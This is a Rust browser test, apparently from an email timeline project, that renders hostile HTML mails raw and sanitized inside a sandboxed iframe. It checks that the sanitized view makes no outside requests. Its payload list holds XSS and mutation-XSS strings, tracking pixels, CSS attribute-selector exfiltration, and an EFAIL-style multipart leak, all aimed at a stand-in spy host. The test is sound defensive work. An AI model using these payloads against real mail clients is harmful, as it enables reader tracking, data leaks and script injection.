//! Mail that spies, runs and escapes, shown to a real browser as a timeline
//! shows it: nothing is asked for, and nothing runs. The same mail shown as it
//! is proves that the browser would, and that it is noticed.

use std::{
    collections::BTreeMap,
    sync::{Arc, Mutex, PoisonError},
    time::Duration,
};

use inboxlink_message::parse;
use inboxlink_timeline::html::{SANDBOX, iframe_document, safe_html};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpListener, TcpStream},
};

use crate::browser::Browser;

/// What a mail's HTML may hold; `SPY` is where it would be noticed.
const HOSTILE: &[&str] = &[
    "<script>new Image().src='SPY/ran'</script>",
    "<img src=x onerror=\"new Image().src='SPY/ran'\">",
    "<svg onload=\"new Image().src='SPY/ran'\"></svg>",
    "<body onload=\"new Image().src='SPY/ran'\">",
    "<details open ontoggle=\"new Image().src='SPY/ran'\">x</details>",
    "<iframe srcdoc=\"<script>new Image().src='SPY/ran'</script>\"></iframe>",
    "<svg></p><style><a id=\"</style><img src=x onerror=new(Image)().src='SPY/ran'>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=SPY/mxss&gt;\">",
    "<noscript><p title=\"</noscript><img src=SPY/noscript>\">",
    "<img src=SPY/pixel.gif width=1 height=1>",
    "<img srcset='SPY/srcset 1x'><picture><source srcset=SPY/picture><img></picture>",
    "<table background=SPY/table><tr><td background=SPY/cell>x</table>",
    "<p style=\"background:url(SPY/style)\">x</p>",
    "<p style=\"background-image:image-set('SPY/imageset' 1x)\">x</p>",
    "<p style=\"list-style:url(SPY/list);display:list-item\">x</p>",
    "<style>@import 'SPY/import'; p{background:url(SPY/sheet)} @font-face{font-family:f;src:url(SPY/font)} *{font-family:f}</style><p>x</p>",
    "<style>input[value^=a]{background:url(SPY/exfiltrated)}</style><input value=abc>",
    "<link rel=stylesheet href=SPY/link><link rel=prefetch href=SPY/prefetch><link rel=preload as=image href=SPY/preload>",
    "<link rel=dns-prefetch href=SPY><link rel=preconnect href=SPY>",
    "<meta http-equiv=refresh content='0;url=SPY/refresh'>",
    "<base href='SPY/'><img src=based.gif>",
    "<iframe src=SPY/frame></iframe><object data=SPY/object></object><embed src=SPY/embed>",
    "<video src=SPY/video poster=SPY/poster autoplay></video><audio src=SPY/audio autoplay></audio>",
    "<form action=SPY/form id=f><input name=a autofocus onfocus=\"f.submit()\"></form>",
    "<svg><image href=SPY/svgimage /><use href='SPY/use#x'/></svg>",
    "<input type=image src=SPY/input>",
];

/// A mail whose encrypted part would leak through the parts around it.
const EFAIL: &str = "From: a@example.com\nContent-Type: multipart/mixed; boundary=b\n\n\
    --b\nContent-Type: text/html\n\n<img src=\"SPY/efail?\n\
    --b\nContent-Type: text/html\n\nsecret\n\
    --b\nContent-Type: text/html\n\n\">after\n--b--\n";

/// What each path answers, and what else was asked for.
#[derive(Default)]
struct Site {
    pages: Mutex<BTreeMap<String, (String, String)>>,
    spied: Mutex<Vec<String>>,
}

impl Site {
    async fn answer(&self, mut stream: TcpStream) {
        let mut head = vec![0; 16 * 1024];
        let read = stream.read(&mut head).await.unwrap_or_default();
        let head = String::from_utf8_lossy(&head[..read]).into_owned();
        let Some(path) = head.split_whitespace().nth(1) else {
            return;
        };
        let page = self.page(path);
        let (csp, body) = page.unwrap_or_else(|| {
            let mut spied = self.spied.lock().unwrap_or_else(PoisonError::into_inner);
            spied.push(path.to_owned());
            Default::default()
        });
        let policy = match csp.as_str() {
            "" => String::new(),
            csp => format!("Content-Security-Policy: {csp}\r\n"),
        };
        let answer = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n{policy}\
             Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        let _ = stream.write_all(answer.as_bytes()).await;
    }

    fn page(&self, path: &str) -> Option<(String, String)> {
        let pages = self.pages.lock().unwrap_or_else(PoisonError::into_inner);
        pages.get(path).cloned()
    }

    fn put(&self, path: String, csp: &str, body: String) {
        let mut pages = self.pages.lock().unwrap_or_else(PoisonError::into_inner);
        pages.insert(path, (csp.to_owned(), body));
    }

    fn spied(&self) -> Vec<String> {
        let mut spied = self.spied.lock().unwrap_or_else(PoisonError::into_inner);
        std::mem::take(&mut *spied)
    }
}

/// A page of the CRM with a frame in it.
fn around(frame: &str) -> String {
    format!("<!doctype html><link rel=icon href='data:,'><title>x</title>{frame}<p id=end>end</p>")
}

/// Looks at pages one after the other, and long enough for what comes late.
async fn look(browser: &Browser, site: &Site, paths: &[String]) -> Vec<Vec<String>> {
    let mut spied = Vec::new();
    for path in paths {
        browser.goto(path).await;
        tokio::time::sleep(Duration::from_millis(150)).await;
        spied.push(site.spied());
    }
    spied
}

#[tokio::test]
#[ignore = "needs Chromium: cargo xtask test --install"]
async fn chromium_hostile_mail_asks_for_nothing_and_runs_nothing() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    let site = Arc::new(Site::default());
    let serving = tokio::spawn({
        let site = Arc::clone(&site);
        async move {
            loop {
                let (stream, _) = listener.accept().await.unwrap();
                let site = Arc::clone(&site);
                tokio::spawn(async move { site.answer(stream).await });
            }
        }
    });

    let (mut shown, mut control) = (Vec::new(), Vec::new());
    let html = HOSTILE.iter().map(|html| {
        format!("From: a@example.com\nContent-Type: text/html; charset=utf-8\n\n{html}\n")
    });
    for (n, raw) in html.chain([EFAIL.to_owned()]).enumerate() {
        let raw = raw.replace("SPY", &format!("{origin}/spy"));
        let mail = parse(raw.as_bytes(), None);
        let parts: Vec<_> = mail
            .html_parts()
            .map(|part| safe_html(part, &BTreeMap::new()))
            .collect();
        let document = iframe_document(&parts, None);
        site.put(format!("/mail/{n}"), &document.csp, document.html);
        let frame = format!("<iframe sandbox='{SANDBOX}' src=/mail/{n}></iframe>");
        site.put(format!("/shown/{n}"), "", around(&frame));
        shown.push(format!("{origin}/shown/{n}"));
        let whole: String = mail.html_parts().collect();
        site.put(format!("/raw/{n}"), "", around(&whole));
        control.push(format!("{origin}/raw/{n}"));
    }

    // As it is, in a browser that is then thrown away.
    let careless = Browser::start().await;
    let noticed = look(&careless, &site, &control).await;
    drop(careless);
    let caught = noticed.iter().filter(|spied| !spied.is_empty()).count();
    let ran = noticed
        .iter()
        .flatten()
        .filter(|path| path.contains("ran"))
        .count();
    println!(
        "as it is: {caught} of {} mails noticed, {ran} scripts ran",
        control.len()
    );
    assert!(caught >= control.len() * 3 / 4 && ran >= 4, "{noticed:?}");

    // As a timeline shows it; closing proves that the browser had nothing to
    // refuse either, and connected to this machine only.
    site.spied();
    let browser = Browser::start().await;
    let noticed = look(&browser, &site, &shown).await;
    println!("as shown: {} requests", noticed.iter().flatten().count());
    assert!(noticed.iter().all(Vec::is_empty), "{noticed:?}");
    browser.close().await;
    serving.abort();
}
